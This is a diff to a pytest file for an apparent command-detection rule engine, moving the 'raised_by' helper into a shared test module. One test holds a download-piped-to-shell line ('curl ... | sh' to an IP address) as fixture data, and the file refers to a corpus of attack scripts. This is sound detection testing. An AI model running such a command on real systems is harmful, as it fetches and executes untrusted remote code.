@@ -12,7 +12,7 @@ import pytest
 from agent.config_peek import MAX_SCRIPT_LINES, ConfigPeek, script_lines
 from collector.rules.context import with_here_documents
 from gpuguard.scripts import MAX_JOINED_LINE, script_of
-from tests.test_benign_commands import ENGINE, LINES
+from tests.test_benign_commands import LINES, raised_by
 from tests.test_rule_corpus import exec_event
 
 
@@ -80,7 +80,7 @@ def test_a_here_document_is_read_with_the_command_that_reads_it():
 
 def test_lines_of_a_config_file_are_not_read_as_a_script():
     ev = exec_event({"argv": ["./x", "-c", "run.sh"], "config_lines": ["run.sh:1: curl -s http://198.51.100.7/x | sh"]})
-    assert "download-piped-to-shell" not in {m.rule.id for m in ENGINE.evaluate("node-1", ev, None)}
+    assert "download-piped-to-shell" not in raised_by(ev)
 
 
 def test_ordinary_commands_as_scripts_raise_nothing():
@@ -95,10 +95,6 @@ def fired_for_file(body: str | bytes, name: str = "run.sh") -> set[str]:
     ev = exec_event({"argv": ["/bin/bash", name], "exe": "/usr/bin/bash", "config_lines": script_lines(name, data)})
     return raised_by(ev)
 
-
-def raised_by(ev) -> set[str]:
-    """The rules a script's exec raises (signals only feed correlations: an rsync to host:path is one)."""
-    return {m.rule.id for m in ENGINE.evaluate("node-1", ev, None) if m.rule.action != "signal"}
 
 
 ATTACK_SCRIPTS = sorted((Path(__file__).parent / "corpus" / "attack_scripts").glob("*.sh"))
